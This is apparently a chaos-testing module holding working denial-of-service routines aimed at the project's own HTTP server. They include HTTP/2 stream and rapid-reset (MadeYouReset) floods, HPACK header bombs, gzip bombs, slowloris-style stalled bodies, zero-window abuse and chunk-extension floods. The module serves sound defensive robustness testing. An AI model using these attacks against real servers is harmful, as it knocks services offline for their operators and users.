"""The attacks: each does a bounded amount of harm to a Door, and returns what came of it.

They are met by tests/chaos/test_hostile_*.py, which say what must be, and by tests/bench/hostile_bench.py, which measures
the honest client beside them.
"""

import gzip
import json
import time

from hostile_rig import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    MIB,
    PADDED,
    PING,
    RST_STREAM,
    WINDOW_UPDATE,
    closing,
    drain,
    frame,
    frames,
    h2,
    head,
    literal,
    push,
)

POST = b"POST /take HTTP/1.1\r\nhost: door\r\ncontent-type: application/json\r\n"
ANSWERED_IN_PLACE = {
    "page": b"GET /openapi.json HTTP/1.1\r\nhost: door\r\n\r\n",
    "not-found": b"GET /nothing/here HTTP/1.1\r\nhost: door\r\n\r\n",
    "wrong-method": b"DELETE /get HTTP/1.1\r\nhost: door\r\n\r\n",
    "preflight": b"OPTIONS /get HTTP/1.1\r\nhost: door\r\norigin: https://app.example\r\naccess-control-request-method: GET\r\n\r\n",
    "kept": b"GET /get?size=1 HTTP/1.1\r\nhost: door\r\n\r\n",
}


def pipeline_unread(door, request, clients=2, request_bytes=24 * MIB):
    """Pipelines and never reads; returns the share of the requests that was taken."""
    flood = request * (request_bytes // len(request))
    with closing([door.connect(4096) for _ in range(clients)]) as opened:
        return sum(push(client, flood) for client in opened) / (clients * len(flood))


def streams_unread(door, streams=2000):
    """Asks for pages by HTTP/2 with a window as large as can be, and reads nothing; then reads all. Returns what came."""
    with closing([h2(door, window=(1 << 31) - 1, receive_buffer=4096)]) as (client,):
        client.sendall(frame(WINDOW_UPDATE, 0, 0, ((1 << 31) - 1 - 65535).to_bytes(4, "big")))
        asked = b"".join(head(1 + 2 * i, b"GET", b"/openapi.json") for i in range(streams))
        push(client, asked)
        push(client, frame(PING, 0, 0, b"anybody?"))
        return drain(client)[0]


def pause_in_bodies(door, clients=150, body_bytes=15 * MIB):
    """Sends all of a body but its end, on each connection; returns how many bytes were taken."""
    body = b'{"text":"' + b"x" * (body_bytes - 9)
    opened = [door.connect() for _ in range(clients)]
    with closing(opened):
        taken = 0
        for client in opened:
            client.settimeout(5)
            taken += push(client, POST + b"content-length: %d\r\n\r\n" % (body_bytes + 1) + body, 0.5)
        return taken


def gzip_bombs(door, clients=60, body_bytes=15 * MIB):
    """The same in a thousandth of the bytes."""
    bomb = gzip.compress(b'{"text":"' + b"x" * (body_bytes - 9), 9)[:-8]
    opened = [door.connect() for _ in range(clients)]
    with closing(opened):
        for client in opened:
            push(client, POST + b"content-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % (len(bomb) + 8) + bomb)
        # What was sent last has been dealt with once an answer to a later request is here.
        return [drain(client, 0.2)[0][:12] for client in opened]


def shut_windows(door, connections=2, streams=60, reply_bytes=5 * MIB, seconds=4):
    """Asks for large replies, gives them no window but a byte now and then; returns what came."""
    opened = [h2(door, window=0) for _ in range(connections)]
    with closing(opened):
        for client in opened:
            client.sendall(b"".join(head(1 + 2 * i, b"GET", b"/big?size=%d" % reply_bytes) for i in range(streams)))
        end = time.monotonic() + seconds
        got = [b""] * connections
        while time.monotonic() < end:
            for i, client in enumerate(opened):
                push(client, b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * n, b"\0\0\0\1") for n in range(streams)))
                got[i] += drain(client, 0.2)[0]
        return got


def dripping_body(door, seconds_max=8):
    """One byte a second of an HTTP/1.1 body; returns the answer and after how long it came."""
    with closing([door.connect()]) as (client,):
        client.sendall(POST + b'content-length: 1000\r\n\r\n{"text":"')
        begun = time.monotonic()
        while time.monotonic() - begun < seconds_max:
            push(client, b"x")
            got, _ = drain(client, 1)
            if got:
                return got, time.monotonic() - begun
        return b"", time.monotonic() - begun


def stopped_h2_body(door, timeout=b"", drip=b"", seconds_max=8):
    """An HTTP/2 body that stops, or drips; returns what came and after how long."""
    with closing([h2(door)]) as (client,):
        fields = [(b"content-type", b"application/json")] + ([(b"grpc-timeout", timeout)] if timeout else [])
        client.sendall(head(1, b"POST", b"/take", *fields, end=False) + frame(DATA, 0, 1, b'{"text":"'))
        begun = time.monotonic()
        got = b""
        while time.monotonic() - begun < seconds_max and not any(kind == RST_STREAM for kind, *_ in frames(got)):
            if drip:
                push(client, frame(DATA, 0, 1, drip))
            got += drain(client, 0.3)[0]
        return got, time.monotonic() - begun


def provoked_resets(door, streams=20_000):
    """Opens streams and has the server reset each: MadeYouReset."""
    with closing([h2(door)]) as (client,):
        flood = b"".join(
            head(1 + 2 * i, b"GET", b"/big?size=1000") + frame(WINDOW_UPDATE, 0, 1 + 2 * i, b"\x7f\xff\xff\xff") for i in range(streams)
        )
        push(client, flood)
        return drain(client)


def header_bomb(door, trailers=False, connections=4):
    """16 KiB that stand for 64 MiB of fields."""
    long = 4000
    entry = b"\x40\x01x\x7f" + bytes(((long - 127) & 0x7F | 0x80, (long - 127) >> 7)) + b"y" * long
    request = literal(b":method", b"POST") + literal(b":path", b"/take") + b"\x86" + literal(b":authority", b"door")
    named = b"\xbe" * 16_000
    opened = [h2(door) for _ in range(connections)]
    with closing(opened):
        for client in opened:
            # The entry is added by a block of its own, as it would be too large together with others.
            push(client, frame(HEADERS, END_HEADERS, 1, request + literal(b"content-type", b"application/json") + entry))
            if trailers:
                push(client, frame(HEADERS, END_HEADERS | END_STREAM, 1, named))
            else:
                push(client, frame(HEADERS, 0, 3, request) + frame(CONTINUATION, END_HEADERS, 3, named))
        return [drain(client) for client in opened]


CHEAP_FRAMES = {
    "one-byte": frame(DATA, 0, 1, b"x"),
    "padded": frame(DATA, PADDED, 1, b"\xc8" + b"\0" * 200),
    "closed": frame(DATA, 0, 1, b"x"),
    "unknown": frame(0xFE, 0, 0, b""),
}


def cheap_frames(door, kind, frames_sent=200_000):
    """Frames that carry next to nothing. `closed`: on a stream that has ended."""
    with closing([h2(door)]) as (client,):
        closed = kind == "closed"
        client.sendall(head(1, b"POST", b"/take", (b"content-type", b"application/json"), end=closed))
        if closed:
            drain(client, 0.5)
        push(client, CHEAP_FRAMES[kind] * frames_sent)
        return drain(client)


def chunk_extensions(door, extension=b";x=" + b"y" * 900, chunks=20_000):
    with closing([door.connect()]) as (client,):
        client.sendall(POST + b"transfer-encoding: chunked\r\n\r\n")
        sent = push(client, (b"1" + extension + b"\r\n \r\n") * chunks)
        return sent, drain(client)


def idle_connections(door, count):
    """Keep-alive connections of one address that asked once and stay."""
    opened = []
    for _ in range(count):
        client = door.connect(source="127.0.0.2")
        push(client, b"GET /health HTTP/1.1\r\nhost: door\r\n\r\n")
        opened.append(client)
    return opened


def take_text(length):
    return json.dumps({"text": "x" * length}).encode()
